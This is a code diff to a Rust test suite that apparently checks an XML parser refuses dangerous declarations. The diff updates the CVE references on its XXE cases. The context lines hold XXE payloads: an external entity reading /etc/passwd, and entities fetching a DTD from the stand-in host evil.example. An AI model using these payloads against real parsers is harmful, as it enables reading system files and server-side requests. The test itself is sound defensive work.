@@ -48,13 +48,13 @@ fn declarations() -> Vec<Case> {
         refused(
             "entity-external",
             "an external entity that reads a file of the machine",
-            "CVE-2018-14485 and kin: XXE",
+            "CVE-2013-6440, CVE-2026-28809: XXE",
             "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
         ),
         refused(
             "entity-parameter",
             "a parameter entity that fetches a DTD",
-            "CVE-2018-14485 and kin: XXE",
+            "CVE-2013-6440, CVE-2026-28809: XXE",
             "<!DOCTYPE r [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>",
         ),
         refused(
@@ -66,7 +66,7 @@ fn declarations() -> Vec<Case> {
         refused(
             "doctype-external",
             "a DOCTYPE with an external DTD",
-            "CVE-2018-14485 and kin: XXE",
+            "CVE-2013-6440, CVE-2026-28809: XXE",
             "<!DOCTYPE r SYSTEM \"https://evil.example/x.dtd\">",
         ),
         text("entity-undeclared", "an entity that nothing declares", XML, "xml-malformed", |xml| {
